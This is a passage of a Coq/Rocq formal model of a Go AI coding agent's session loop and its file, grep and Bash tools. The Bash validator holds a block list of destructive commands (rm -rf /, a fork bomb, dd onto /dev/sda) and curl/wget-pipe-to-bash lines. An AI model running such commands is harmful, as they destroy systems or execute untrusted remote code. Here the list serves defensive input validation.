(** * aigo-kode: the session loop and its tools

    A shallow embedding of [internal/core] (session, tool contract) and
    [internal/tools] (registry, Bash, FileRead, FileWrite, FileEdit, Grep)
    of the Go sources, and the properties of the specification settled on it.

    Conventions.
    - A Go [string] is a [string] of bytes; [len] of a slice is [length].
    - A Go [int] is a 64-bit integer, a [Z]; the arithmetic performed on
      it by the modelled code is comparison, [i + 1] on line indices, and
      the product [time.Duration(n) * time.Second], whose wrap-around is
      written out ([wrap64]).
    - A Go [float64] that reaches a tool comes from a decoded JSON number,
      so it is finite; it is a rational [Q].  [int(f)] truncates towards
      zero when the result fits an [int]; beyond that Go leaves the result
      to the implementation, and what is proved of a converted value either
      assumes that it fits ([MaxInt64]) or does not depend on it.
    - A Go [error] built by [errors.New] is its message; [nil] is [None].
    - [map[string]interface{}] is a [gmap string value].
    - The file system is explicit state: a finite map from path to node. *)

From Stdlib Require Import ZArith QArith Lia Ascii.
From stdpp Require Import base option list strings gmap.

Local Open Scope Z_scope.

(** ** Go strings *)

Module gostrings.

(** The line feed, Go's ["\n"]. *)
Definition LF : ascii := "010"%char.

Definition nl : string := String LF "".

(** [strings.HasPrefix(s, prefix)]. *)
Fixpoint HasPrefix (s prefix : string) {struct prefix} : bool :=
  match prefix, s with
  | EmptyString, _ => true
  | String _ _, EmptyString => false
  | String a p, String b s' => Ascii.eqb a b && HasPrefix s' p
  end.

(** [strings.Contains(s, substr)]: [substr] starts at some index of [s]. *)
Fixpoint Contains (s substr : string) : bool :=
  HasPrefix s substr ||
  match s with
  | EmptyString => false
  | String _ s' => Contains s' substr
  end.

(** [strings.Split(s, sep)] for a separator of one byte, the only use in
    the sources ([sep = "\n"]): the pieces between the separators, one more
    than there are separators. *)
Fixpoint Split (s : string) (sep : ascii) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      if Ascii.eqb c sep then EmptyString :: Split s' sep
      else match Split s' sep with
           | [] => [String c EmptyString]
           | l :: ls => String c l :: ls
           end
  end.

(** [strings.Join(elems, sep)]. *)
Fixpoint Join (elems : list string) (sep : string) : string :=
  match elems with
  | [] => EmptyString
  | [e] => e
  | e :: es => e +:+ sep +:+ Join es sep
  end.

(** The replacement loop of [strings.Replace] for a non-empty [old]:
    occurrences are taken left to right and do not overlap.  [skip] counts
    the bytes of the occurrence just replaced that are still to be passed. *)
Fixpoint replace_loop (s old new : string) (skip : nat) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match skip with
      | S k => replace_loop s' old new k
      | O =>
          if HasPrefix s old
          then new +:+ replace_loop s' old new (String.length old - 1)
          else String c (replace_loop s' old new O)
      end
  end.

(** With an empty [old], [strings.Replace] puts [new] in front of every
    rune and at the end (here: every byte). *)
Fixpoint replace_empty (s new : string) : string :=
  match s with
  | EmptyString => new
  | String c s' => new +:+ String c (replace_empty s' new)
  end.

(** [strings.Replace(s, old, new, -1)]: it returns [s] itself when
    [old == new] or when [old] does not occur. *)
Definition ReplaceAll (s old new : string) : string :=
  if String.eqb old new then s
  else if negb (Contains s old) then s
  else match old with
       | EmptyString => replace_empty s new
       | String _ _ => replace_loop s old new O
       end.

Definition lower_byte (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if ((65 <=? n)%nat && (n <=? 90)%nat)%bool then ascii_of_nat (n + 32) else c.

(** [strings.ToLower] of a string of ASCII bytes: the bytes [A]..[Z] are
    mapped, the others kept.  (On other strings Go maps whole runes by the
    Unicode tables; [is_ascii] marks the strings this definition covers.) *)
Fixpoint ToLower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_byte c) (ToLower s')
  end.

Fixpoint is_ascii (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => (nat_of_ascii c <? 128)%nat && is_ascii s'
  end.

End gostrings.

(** ** Dynamic values

    What a Go [interface{}] holds in this program: the JSON-shaped
    arguments of a tool call, and the pointers to output structs that the
    tools return. *)

Abbreviation error := string (only parsing).

Module BashToolOutput.
Record t := mk { Stdout : string; Stderr : string; ExitCode : Z; Interrupted : bool }.
End BashToolOutput.

Module FileReadToolOutput.
Record t := mk { Type_ : string; Content : string; Error : string }.
End FileReadToolOutput.

Module FileWriteToolOutput.
Record t := mk { Success : bool; Error : string }.
End FileWriteToolOutput.

Module FileEditToolOutput.
Record t := mk { Success : bool; Error : string }.
End FileEditToolOutput.

Module GrepMatch.
Record t := mk { File : string; Line : Z; Content : string }.
End GrepMatch.

Module GrepToolOutput.
Record t := mk { Matches : list GrepMatch.t; Error : string }.
End GrepToolOutput.

#[warnings="-register-all"]
Inductive value : Type :=
  | VNil
  | VString (s : string)
  | VInt (n : Z)
  | VFloat64 (f : Q)
  | VBool (b : bool)
  | VSlice (l : list value)
  | PBashToolOutput (o : BashToolOutput.t)
  | PFileReadToolOutput (o : FileReadToolOutput.t)
  | PFileWriteToolOutput (o : FileWriteToolOutput.t)
  | PFileEditToolOutput (o : FileEditToolOutput.t)
  | PGrepToolOutput (o : GrepToolOutput.t).

(** The argument map of a tool call, [map[string]interface{}]. *)
Abbreviation Input := (gmap string value).

(** Type assertions [v, ok := input[k].(T)]: [None] is [ok = false]. *)
Definition as_string (v : option value) : option string :=
  match v with Some (VString s) => Some s | _ => None end.

Definition as_int (v : option value) : option Z :=
  match v with Some (VInt n) => Some n | _ => None end.

Definition as_float64 (v : option value) : option Q :=
  match v with Some (VFloat64 f) => Some f | _ => None end.

Definition as_bool (v : option value) : option bool :=
  match v with Some (VBool b) => Some b | _ => None end.

(** The conversion [int(f)]: the fraction is discarded.  This is the
    value of the conversion for an [f] whose integer part is an [int64];
    for other values Go leaves the result to the implementation. *)
Definition int_of_float64 (f : Q) : Z := Z.quot (Qnum f) (Z.pos (Qden f)).

(** The largest [int]. *)
Definition MaxInt64 : Z := 9223372036854775807.

(** An [int64] result, reduced to its 64 bits in two's complement. *)
Definition wrap64 (z : Z) : Z :=
  (z + 9223372036854775808) mod 18446744073709551616 - 9223372036854775808.

Module time.

(** [time.Second], a [Duration]: a count of nanoseconds in an [int64]. *)
Definition Second : Z := 1000000000.

(** [time.Duration(n) * time.Second] *)
Definition seconds (n : Z) : Z := wrap64 (n * Second).

End time.

(** Comparisons of a [float64] with the constant [0]. *)
Definition float64_ltb0 (f : Q) : bool := (Qnum f <? 0)%Z.
Definition float64_leb0 (f : Q) : bool := (Qnum f <=? 0)%Z.

(** ** The file system

    A path is the string the program was given: two spellings of one file
    (["A"] and ["./A"]) are two keys.  Failures other than a missing path
    and a directory in the place of a file (permissions, a file in the
    place of a directory, a full disk) are not part of the model. *)

Inductive node : Type :=
  | RegularFile (content : string)
  | Directory.

Abbreviation FS := (gmap string node).

Module os.

(** [os.Stat]: [None] is the error for which [os.IsNotExist] holds; other
    failures of [stat] are not modelled. *)
Definition Stat (fs : FS) (name : string) : option node := fs !! name.

(** [os.ReadFile]: the content, or the error. *)
Definition ReadFile (fs : FS) (name : string) : string + error :=
  match fs !! name with
  | Some (RegularFile content) => inl content
  | Some Directory => inr ("read " +:+ name +:+ ": is a directory")
  | None => inr ("open " +:+ name +:+ ": no such file or directory")
  end.

(** [os.WriteFile(name, data, 0644)]: creates or truncates. *)
Definition WriteFile (fs : FS) (name data : string) : FS * option error :=
  match fs !! name with
  | Some Directory => (fs, Some ("open " +:+ name +:+ ": is a directory"))
  | _ => (<[name := RegularFile data]> fs, None)
  end.

(** [os.OpenFile(name, O_APPEND|O_CREATE|O_WRONLY, 0644)] followed, when it
    succeeds, by [file.WriteString(content)] and [file.Close()]. *)
Definition AppendFile (fs : FS) (name content : string) : FS * option error :=
  match fs !! name with
  | Some Directory => (fs, Some ("open " +:+ name +:+ ": is a directory"))
  | Some (RegularFile old) => (<[name := RegularFile (old +:+ content)]> fs, None)
  | None => (<[name := RegularFile content]> fs, None)
  end.

End os.

(** What a run of [bash -c command] under a deadline looks like to
    [BashTool.Execute]. *)
Inductive WaitError : Type :=
  | WaitNil                               (* [cmd.Wait()] returned [nil] *)
  | ExitError (status : option Z)         (* [*exec.ExitError]; the exit status when [Sys()] is a [syscall.WaitStatus] *)
  | OtherError (deadlineExceeded : bool). (* any other error; whether [errors.Is(err, context.DeadlineExceeded)] *)

Inductive ProcRun : Type :=
  | PipeFailed (err : error)
  | StartFailed (err : error)
  | ReadFailed (err : error)
  | Waited (stdoutBytes stderrBytes : string) (err : WaitError).

(** The parts of the Go library and of the operating system that the tools
    call and that are not modelled: they are parameters of the tools.
    [exec_bash fs command timeout] is the run of [bash -c command] under a
    context whose deadline is [timeout] from now, a [time.Duration] in
    nanoseconds. *)
Record Host : Type := {
  filepath_Dir : string -> string;
  os_MkdirAll : FS -> string -> FS * option error;
  filepath_Glob : FS -> string -> option (list string);
  exec_bash : FS -> string -> Z -> FS * ProcRun
}.

(** ** Package core: messages, the tool contract, the session *)

Module ToolCall.
Record t := mk { ToolName : string; Input : Input; ID : string }.
End ToolCall.

Module Message.
Record t := mk { Role : string; Content : value; ToolCalls : list ToolCall.t }.
End Message.

Module ToolUseResult.
Record t := mk { ToolName : string; Input : Input; Output : value; Error : option error }.
End ToolUseResult.

Module SessionConfig.
Record t := mk { ProjectPath : string; SystemPrompt : string; MaxTokens : Z; Temperature : Q }.
End SessionConfig.

(** The interface [core.Tool].  [Execute] and [ValidateInput] read the file
    system ([os.Stat] in validators), and [Execute] may change it; the
    [context.Context] argument carries no data of its own.  The schema text
    [Arguments()] is read by no modelled operation and is left out. *)
Module Tool.
Record t : Type := mk {
  Name : string;
  Description : string;
  Execute : FS -> Input -> FS * (value * option error);
  ValidateInput : FS -> Input -> option error;
  IsReadOnly : bool;
  RequiresPermission : Input -> bool
}.
End Tool.

Module Session.
Record t := mk {
  Messages : list Message.t;
  Tools : list Tool.t;
  Config : SessionConfig.t
}.
End Session.

Module core.

(** [NewSession(model, tools, config)]; a [nil] config is [None].  The
    model client is used by [Query] only and is not part of the state
    modelled here. *)
Definition NewSession (tools : list Tool.t) (config : option SessionConfig.t) : Session.t :=
  let config :=
    match config with
    | Some c => c
    | None =>
        SessionConfig.mk "" "You are a helpful AI assistant that can use tools to help with coding tasks."
          4096 (7 # 10)
    end in
  Session.mk [Message.mk "system" (VString (SessionConfig.SystemPrompt config)) []] tools config.

Definition append_message (s : Session.t) (m : Message.t) : Session.t :=
  Session.mk (Session.Messages s ++ [m]) (Session.Tools s) (Session.Config s).

Definition AddUserMessage (s : Session.t) (content : string) : Session.t :=
  append_message s (Message.mk "user" (VString content) []).

Definition AddAssistantMessage (s : Session.t) (content : string) : Session.t :=
  append_message s (Message.mk "assistant" (VString content) []).

Definition AddToolResult (s : Session.t) (toolName id : string) (result : value) : Session.t :=
  append_message s (Message.mk "tool" result []).

(** The loop of [ExecuteTool] that finds the tool: the first one of
    [s.Tools] with the name of the call; [None] is the [nil] interface. *)
Fixpoint find_tool (tools : list Tool.t) (toolName : string) : option Tool.t :=
  match tools with
  | [] => None
  | t :: rest => if String.eqb (Tool.Name t) toolName then Some t else find_tool rest toolName
  end.

(** [Session.ExecuteTool(ctx, toolCall)]: the session and the file system
    after the call, and the pair it returns. *)
Definition ExecuteTool (s : Session.t) (fs : FS) (toolCall : ToolCall.t)
  : Session.t * FS * (option ToolUseResult.t * option error) :=
  match find_tool (Session.Tools s) (ToolCall.ToolName toolCall) with
  | None => (s, fs, (None, Some ("tool not found: " +:+ ToolCall.ToolName toolCall)))
  | Some tool =>
      let _ := Tool.RequiresPermission tool (ToolCall.Input toolCall) in
      match Tool.ValidateInput tool fs (ToolCall.Input toolCall) with
      | Some err =>
          (s, fs,
           (Some (ToolUseResult.mk (ToolCall.ToolName toolCall) (ToolCall.Input toolCall) VNil (Some err)),
            None))
      | None =>
          let '(fs', (output, err)) := Tool.Execute tool fs (ToolCall.Input toolCall) in
          let result :=
            ToolUseResult.mk (ToolCall.ToolName toolCall) (ToolCall.Input toolCall) output err in
          (AddToolResult s (ToolCall.ToolName toolCall) (ToolCall.ID toolCall) output, fs',
           (Some result, None))
      end
  end.

(** The four operations that change a session, and a run of them. *)
Inductive op : Type :=
  | OpAddUserMessage (content : string)
  | OpAddAssistantMessage (content : string)
  | OpAddToolResult (toolName id : string) (result : value)
  | OpExecuteTool (toolCall : ToolCall.t).

Definition step (st : Session.t * FS) (o : op) : Session.t * FS :=
  let '(s, fs) := st in
  match o with
  | OpAddUserMessage content => (AddUserMessage s content, fs)
  | OpAddAssistantMessage content => (AddAssistantMessage s content, fs)
  | OpAddToolResult toolName id result => (AddToolResult s toolName id result, fs)
  | OpExecuteTool toolCall => fst (ExecuteTool s fs toolCall)
  end.

Definition run (st : Session.t * FS) (ops : list op) : Session.t * FS :=
  fold_left step ops st.

End core.

(** ** Package tools: the registry *)

Module ToolRegistry.

(** [ToolRegistry{tools map[string]func() core.Tool}]. *)
Record t := mk { tools : gmap string (unit -> Tool.t) }.

Definition NewToolRegistry : t := mk ∅.

Definition RegisterTool (r : t) (name : string) (factory : unit -> Tool.t) : t :=
  mk (<[name := factory]> (tools r)).

Definition GetTool (r : t) (name : string) : option Tool.t :=
  match tools r !! name with
  | Some factory => Some (factory tt)
  | None => None
  end.

End ToolRegistry.

(** ** Package path/filepath *)

Module filepath.

Fixpoint rev_string (s acc : string) : string :=
  match s with
  | EmptyString => acc
  | String c s' => rev_string s' (String c acc)
  end.

(** The loop of [filepath.Ext]: [rpath] is the part of the path not yet
    visited, last byte first, and [suffix] the part already passed.  The
    separator is ['/']. *)
Fixpoint ext_loop (rpath suffix : string) : string :=
  match rpath with
  | EmptyString => EmptyString
  | String c r =>
      if Ascii.eqb c "/" then EmptyString
      else if Ascii.eqb c "." then String c suffix
      else ext_loop r (String c suffix)
  end.

Definition Ext (path : string) : string := ext_loop (rev_string path "") "".

End filepath.

(** ** Package tools: the process-execution tool *)

Module BashTool.

Definition bannedCommands : list string :=
  [ "rm -rf /";
    "rm -rf /*";
    ":(){ :|:& };:";
    "> /dev/sda";
    "dd if=/dev/random of=/dev/sda";
    "mv /* /dev/null";
    "wget -O- http://example.com/script.sh | bash";
    "curl -s http://example.com/script.sh | bash" ].

(** [for _, banned := range bannedCommands { if strings.Contains(...) { return ... } }] *)
Fixpoint check_banned (command : string) (banned : list string) : option error :=
  match banned with
  | [] => None
  | b :: rest =>
      if gostrings.Contains command b
      then Some "command contains potentially dangerous operations"
      else check_banned command rest
  end.

Definition validate_timeout (input : Input) : option error :=
  match input !! "timeout" with
  | Some timeoutVal =>
      match timeoutVal with
      | VInt timeout =>
          if timeout <=? 0 then Some "timeout must be positive"
          else if 300 <? timeout then Some "timeout cannot exceed 300 seconds"
          else None
      | _ => Some "timeout must be an integer"
      end
  | None => None
  end.

Definition ValidateInput (input : Input) : option error :=
  match input !! "command" with
  | None => Some "command is required"
  | Some commandVal =>
      match commandVal with
      | VString command =>
          if String.eqb command "" then Some "command cannot be empty"
          else match check_banned command bannedCommands with
               | Some err => Some err
               | None => validate_timeout input
               end
      | _ => Some "command must be a string"
      end
  end.

(** The result struct built after [cmd.Wait()] has returned [err]. *)
Definition result_of_wait (stdoutBytes stderrBytes : string) (err : WaitError) : BashToolOutput.t :=
  let result := BashToolOutput.mk stdoutBytes stderrBytes 0 false in
  match err with
  | WaitNil => result
  | ExitError (Some status) =>
      BashToolOutput.mk (BashToolOutput.Stdout result) (BashToolOutput.Stderr result) status
        (BashToolOutput.Interrupted result)
  | ExitError None => result
  | OtherError true =>
      BashToolOutput.mk (BashToolOutput.Stdout result)
        (BashToolOutput.Stderr result +:+ gostrings.nl +:+ "Command execution timed out")
        (BashToolOutput.ExitCode result) true
  | OtherError false => result
  end.

Definition Execute (host : Host) (fs : FS) (input : Input) : FS * (value * option error) :=
  match as_string (input !! "command") with
  | None => (fs, (VNil, Some "command is required and must be a string"))
  | Some command =>
      if String.eqb command "" then (fs, (VNil, Some "command is required and must be a string"))
      else
        let timeout :=
          match as_int (input !! "timeout") with
          | Some timeoutVal =>
              if 0 <? timeoutVal then time.seconds timeoutVal else 30 * time.Second
          | None => 30 * time.Second
          end in
        let '(fs', run) := exec_bash host fs command timeout in
        match run with
        | PipeFailed err => (fs', (VNil, Some err))
        | StartFailed err => (fs', (VNil, Some err))
        | ReadFailed err => (fs', (VNil, Some err))
        | Waited stdoutBytes stderrBytes err =>
            (fs', (PBashToolOutput (result_of_wait stdoutBytes stderrBytes err), None))
        end
  end.

Definition NewBashTool (host : Host) : Tool.t :=
  {| Tool.Name := "Bash";
     Tool.Description := "Executes bash commands";
     Tool.Execute := Execute host;
     Tool.ValidateInput := fun _ input => ValidateInput input;
     Tool.IsReadOnly := false;
     Tool.RequiresPermission := fun _ => true |}.

End BashTool.

(** ** Package tools: reading a file *)

Module FileReadTool.

Definition imageExts (ext : string) : bool :=
  bool_decide (ext ∈ [".png"; ".jpg"; ".jpeg"; ".gif"; ".bmp"; ".webp"]).

(** [if offset > 0 && offset < len(lines) { lines = lines[offset:] }] *)
Definition apply_offset (offset : Z) (lines : list string) : list string :=
  if (0 <? offset) && (offset <? Z.of_nat (length lines))
  then drop (Z.to_nat offset) lines else lines.

(** [if limit > 0 && limit < len(lines) { lines = lines[:limit] }] *)
Definition apply_limit (limit : Z) (lines : list string) : list string :=
  if (0 <? limit) && (limit <? Z.of_nat (length lines))
  then take (Z.to_nat limit) lines else lines.

(** [var offset, limit int], set from the [float64] arguments when present. *)
Definition offset_of (input : Input) : Z :=
  match as_float64 (input !! "offset") with
  | Some offsetVal => int_of_float64 offsetVal
  | None => 0
  end.

Definition limit_of (input : Input) : Z :=
  match as_float64 (input !! "limit") with
  | Some limitVal => int_of_float64 limitVal
  | None => 0
  end.

Definition Execute (fs : FS) (input : Input) : FS * (value * option error) :=
  match as_string (input !! "file_path") with
  | None => (fs, (VNil, Some "file_path is required and must be a string"))
  | Some filePath =>
      if String.eqb filePath "" then (fs, (VNil, Some "file_path is required and must be a string"))
      else
        let offset := offset_of input in
        let limit := limit_of input in
        match os.Stat fs filePath with
        | None =>
            (fs, (PFileReadToolOutput (FileReadToolOutput.mk "error" "" "File does not exist"), None))
        | Some _ =>
            let ext := gostrings.ToLower (filepath.Ext filePath) in
            if imageExts ext
            then (fs, (PFileReadToolOutput (FileReadToolOutput.mk "image" "" ""), None))
            else
              match os.ReadFile fs filePath with
              | inr err => (fs, (PFileReadToolOutput (FileReadToolOutput.mk "error" "" err), None))
              | inl contentStr =>
                  let lines := gostrings.Split contentStr gostrings.LF in
                  let lines := apply_offset offset lines in
                  let lines := apply_limit limit lines in
                  (fs, (PFileReadToolOutput
                          (FileReadToolOutput.mk "text" (gostrings.Join lines gostrings.nl) ""), None))
              end
        end
  end.

Definition validate_offset (input : Input) : option error :=
  match input !! "offset" with
  | Some offsetVal =>
      match offsetVal with
      | VFloat64 offset => if float64_ltb0 offset then Some "offset must be non-negative" else None
      | _ => Some "offset must be a number"
      end
  | None => None
  end.

Definition validate_limit (input : Input) : option error :=
  match input !! "limit" with
  | Some limitVal =>
      match limitVal with
      | VFloat64 limit => if float64_leb0 limit then Some "limit must be positive" else None
      | _ => Some "limit must be a number"
      end
  | None => None
  end.

Definition ValidateInput (input : Input) : option error :=
  match input !! "file_path" with
  | None => Some "file_path is required"
  | Some filePathVal =>
      match filePathVal with
      | VString filePath =>
          if String.eqb filePath "" then Some "file_path cannot be empty"
          else match validate_offset input with
               | Some err => Some err
               | None => validate_limit input
               end
      | _ => Some "file_path must be a string"
      end
  end.

Definition NewFileReadTool : Tool.t :=
  {| Tool.Name := "FileRead";
     Tool.Description := "Reads the contents of a file";
     Tool.Execute := Execute;
     Tool.ValidateInput := fun _ input => ValidateInput input;
     Tool.IsReadOnly := true;
     Tool.RequiresPermission := fun _ => true |}.

End FileReadTool.

(** ** Package tools: writing a file *)

Module FileWriteTool.

Definition Execute (host : Host) (fs : FS) (input : Input) : FS * (value * option error) :=
  match as_string (input !! "file_path") with
  | None => (fs, (VNil, Some "file_path is required and must be a string"))
  | Some filePath =>
      if String.eqb filePath "" then (fs, (VNil, Some "file_path is required and must be a string"))
      else
        match as_string (input !! "content") with
        | None => (fs, (VNil, Some "content is required and must be a string"))
        | Some content =>
            let append := match as_bool (input !! "append") with
                          | Some appendVal => appendVal | None => false end in
            let leadingNewline := match as_bool (input !! "leading_newline") with
                                  | Some leadingNewlineVal => leadingNewlineVal | None => append end in
            let trailingNewline := match as_bool (input !! "trailing_newline") with
                                   | Some trailingNewlineVal => trailingNewlineVal | None => true end in
            let dir := filepath_Dir host filePath in
            match os_MkdirAll host fs dir with
            | (fs1, Some err) =>
                (fs1, (PFileWriteToolOutput
                         (FileWriteToolOutput.mk false ("Failed to create directory: " +:+ err)), None))
            | (fs1, None) =>
                let content := if leadingNewline then gostrings.nl +:+ content else content in
                let content := if trailingNewline && negb append
                               then content +:+ gostrings.nl else content in
                let '(fs2, err) :=
                  if append then os.AppendFile fs1 filePath content
                  else os.WriteFile fs1 filePath content in
                match err with
                | Some e => (fs2, (PFileWriteToolOutput (FileWriteToolOutput.mk false e), None))
                | None => (fs2, (PFileWriteToolOutput (FileWriteToolOutput.mk true ""), None))
                end
            end
        end
  end.

Definition validate_bool (input : Input) (key : string) (msg : error) : option error :=
  match input !! key with
  | Some (VBool _) => None
  | Some _ => Some msg
  | None => None
  end.

Definition ValidateInput (input : Input) : option error :=
  match input !! "file_path" with
  | None => Some "file_path is required"
  | Some (VString filePath) =>
      if String.eqb filePath "" then Some "file_path cannot be empty"
      else
        match input !! "content" with
        | None => Some "content is required"
        | Some (VString _) =>
            match validate_bool input "append" "append must be a boolean" with
            | Some err => Some err
            | None =>
                match validate_bool input "leading_newline" "leading_newline must be a boolean" with
                | Some err => Some err
                | None => validate_bool input "trailing_newline" "trailing_newline must be a boolean"
                end
            end
        | Some _ => Some "content must be a string"
        end
  | Some _ => Some "file_path must be a string"
  end.

Definition NewFileWriteTool (host : Host) : Tool.t :=
  {| Tool.Name := "FileWrite";
     Tool.Description := "Writes content to a file";
     Tool.Execute := Execute host;
     Tool.ValidateInput := fun _ input => ValidateInput input;
     Tool.IsReadOnly := false;
     Tool.RequiresPermission := fun _ => true |}.

End FileWriteTool.

(** ** Package tools: editing a file *)

Module FileEditTool.

Definition Execute (fs : FS) (input : Input) : FS * (value * option error) :=
  match as_string (input !! "file_path") with
  | None => (fs, (VNil, Some "file_path is required and must be a string"))
  | Some filePath =>
      if String.eqb filePath "" then (fs, (VNil, Some "file_path is required and must be a string"))
      else
        match as_string (input !! "old_text") with
        | None => (fs, (VNil, Some "old_text is required and must be a string"))
        | Some oldText =>
            if String.eqb oldText "" then (fs, (VNil, Some "old_text is required and must be a string"))
            else
              match as_string (input !! "new_text") with
              | None => (fs, (VNil, Some "new_text is required and must be a string"))
              | Some newText =>
                  match os.ReadFile fs filePath with
                  | inr err =>
                      (fs, (PFileEditToolOutput
                              (FileEditToolOutput.mk false ("Failed to read file: " +:+ err)), None))
                  | inl content =>
                      let newContent := gostrings.ReplaceAll content oldText newText in
                      if String.eqb newContent content
                      then (fs, (PFileEditToolOutput
                                   (FileEditToolOutput.mk false "Old text not found in file"), None))
                      else
                        match os.WriteFile fs filePath newContent with
                        | (fs', Some err) =>
                            (fs', (PFileEditToolOutput
                                     (FileEditToolOutput.mk false ("Failed to write file: " +:+ err)), None))
                        | (fs', None) =>
                            (fs', (PFileEditToolOutput (FileEditToolOutput.mk true ""), None))
                        end
                  end
              end
        end
  end.

Definition ValidateInput (fs : FS) (input : Input) : option error :=
  match input !! "file_path" with
  | None => Some "file_path is required"
  | Some (VString filePath) =>
      if String.eqb filePath "" then Some "file_path cannot be empty"
      else
        match os.Stat fs filePath with
        | None => Some "file does not exist"
        | Some _ =>
            match input !! "old_text" with
            | None => Some "old_text is required"
            | Some (VString oldText) =>
                if String.eqb oldText "" then Some "old_text cannot be empty"
                else
                  match input !! "new_text" with
                  | None => Some "new_text is required"
                  | Some (VString _) => None
                  | Some _ => Some "new_text must be a string"
                  end
            | Some _ => Some "old_text must be a string"
            end
        end
  | Some _ => Some "file_path must be a string"
  end.

Definition NewFileEditTool : Tool.t :=
  {| Tool.Name := "FileEdit";
     Tool.Description := "Edits a file by replacing text";
     Tool.Execute := Execute;
     Tool.ValidateInput := ValidateInput;
     Tool.IsReadOnly := false;
     Tool.RequiresPermission := fun _ => true |}.

End FileEditTool.

(** ** Package tools: searching file contents *)

Module GrepTool.

(** The state of the three nested loops of [Execute]: the slice
    [allMatches], and a ghost log [scanned] of every line handed to
    [strings.Contains], as (file, 1-based line number).  The log is not in
    the Go code; it records how far the scan went. *)
Record scan : Type := mkScan {
  allMatches : list GrepMatch.t;
  scanned : list (string * Z)
}.

(** [len(allMatches) >= maxMatches] *)
Definition reached (st : scan) (maxMatches : Z) : bool :=
  maxMatches <=? Z.of_nat (length (allMatches st)).

(** [for i, line := range lines { ... }] *)
Fixpoint scan_lines (pattern filePath : string) (maxMatches : Z)
    (i : Z) (lines : list string) (st : scan) : scan :=
  match lines with
  | [] => st
  | line :: rest =>
      let st := mkScan (allMatches st) (scanned st ++ [(filePath, i + 1)]) in
      if gostrings.Contains line pattern then
        let st := mkScan (allMatches st ++ [GrepMatch.mk filePath (i + 1) line]) (scanned st) in
        if reached st maxMatches then st
        else scan_lines pattern filePath maxMatches (i + 1) rest st
      else scan_lines pattern filePath maxMatches (i + 1) rest st
  end.

(** [for _, filePath := range matches { ... }] *)
Fixpoint scan_files (fs : FS) (pattern : string) (maxMatches : Z)
    (matches : list string) (st : scan) : scan :=
  match matches with
  | [] => st
  | filePath :: rest =>
      match os.Stat fs filePath with
      | None => scan_files fs pattern maxMatches rest st
      | Some Directory => scan_files fs pattern maxMatches rest st
      | Some (RegularFile _) =>
          match os.ReadFile fs filePath with
          | inr _ => scan_files fs pattern maxMatches rest st
          | inl content =>
              let lines := gostrings.Split content gostrings.LF in
              let st := scan_lines pattern filePath maxMatches 0 lines st in
              if reached st maxMatches then st
              else scan_files fs pattern maxMatches rest st
          end
      end
  end.

(** [for _, path := range filePaths { ... }] *)
Fixpoint scan_paths (host : Host) (fs : FS) (pattern : string) (maxMatches : Z)
    (filePaths : list string) (st : scan) : scan :=
  match filePaths with
  | [] => st
  | path :: rest =>
      let matches :=
        match filepath_Glob host fs path with
        | Some (m :: ms) => m :: ms
        | _ => [path]
        end in
      let st := scan_files fs pattern maxMatches matches st in
      if reached st maxMatches then st
      else scan_paths host fs pattern maxMatches rest st
  end.

(** The non-empty strings of a [[]interface{}]. *)
Fixpoint string_elements (l : list value) : list string :=
  match l with
  | [] => []
  | VString path :: rest =>
      if String.eqb path "" then string_elements rest else path :: string_elements rest
  | _ :: rest => string_elements rest
  end.

Definition filePaths_of (input : Input) : list string :=
  match input !! "file_paths" with
  | Some (VSlice filePathsVal) => string_elements filePathsVal
  | Some (VString filePathVal) => if String.eqb filePathVal "" then [] else [filePathVal]
  | _ => []
  end.

Definition maxMatches_of (input : Input) : Z :=
  match as_float64 (input !! "max_matches") with
  | Some maxMatchesVal => int_of_float64 maxMatchesVal
  | None => 100
  end.

(** [Execute] together with the ghost log of the scan. *)
Definition Execute_scan (host : Host) (fs : FS) (input : Input)
  : FS * (value * option error) * list (string * Z) :=
  match as_string (input !! "pattern") with
  | None => (fs, (VNil, Some "pattern is required and must be a string"), [])
  | Some pattern =>
      if String.eqb pattern "" then (fs, (VNil, Some "pattern is required and must be a string"), [])
      else
        let filePaths := filePaths_of input in
        match filePaths with
        | [] => (fs, (VNil, Some "file_paths is required and must be a string or array of strings"), [])
        | _ :: _ =>
            let maxMatches := maxMatches_of input in
            let st := scan_paths host fs pattern maxMatches filePaths (mkScan [] []) in
            (fs, (PGrepToolOutput (GrepToolOutput.mk (allMatches st) ""), None), scanned st)
        end
  end.

Definition Execute (host : Host) (fs : FS) (input : Input) : FS * (value * option error) :=
  fst (Execute_scan host fs input).

Fixpoint all_strings (l : list value) : bool :=
  match l with
  | [] => true
  | VString _ :: rest => all_strings rest
  | _ :: _ => false
  end.

Definition validate_max_matches (input : Input) : option error :=
  match input !! "max_matches" with
  | Some (VFloat64 maxMatches) =>
      if float64_leb0 maxMatches then Some "max_matches must be positive" else None
  | Some _ => Some "max_matches must be a number"
  | None => None
  end.

Definition ValidateInput (input : Input) : option error :=
  match input !! "pattern" with
  | None => Some "pattern is required"
  | Some (VString pattern) =>
      if String.eqb pattern "" then Some "pattern cannot be empty"
      else
        match input !! "file_paths" with
        | None => Some "file_paths is required"
        | Some (VString _) => validate_max_matches input
        | Some (VSlice filePathsArray) =>
            match filePathsArray with
            | [] => Some "file_paths must be a non-empty string or array of strings"
            | _ :: _ =>
                if all_strings filePathsArray then validate_max_matches input
                else Some "all elements in file_paths array must be strings"
            end
        | Some _ => Some "file_paths must be a non-empty string or array of strings"
        end
  | Some _ => Some "pattern must be a string"
  end.

Definition NewGrepTool (host : Host) : Tool.t :=
  {| Tool.Name := "Grep";
     Tool.Description := "Searches for text patterns in files";
     Tool.Execute := Execute host;
     Tool.ValidateInput := fun _ input => ValidateInput input;
     Tool.IsReadOnly := true;
     Tool.RequiresPermission := fun _ => true |}.

End GrepTool.

(** ** A host for running the model on concrete inputs *)

Module plain_host.

(** The directory part of a path without [.] and [..] elements and without
    doubled separators: everything before the last ['/'], or ["."]. *)
Fixpoint dir_loop (rpath : string) : string :=
  match rpath with
  | EmptyString => "."
  | String c r =>
      if Ascii.eqb c "/"
      then match r with EmptyString => "/" | _ => filepath.rev_string r "" end
      else dir_loop r
  end.

Definition Dir (path : string) : string := dir_loop (filepath.rev_string path "").

(** [os.MkdirAll] where every directory can be created: it fails only when
    the path names a regular file.  Only the path itself is looked at, not
    the directories above it. *)
Definition MkdirAll (fs : FS) (path : string) : FS * option error :=
  match fs !! path with
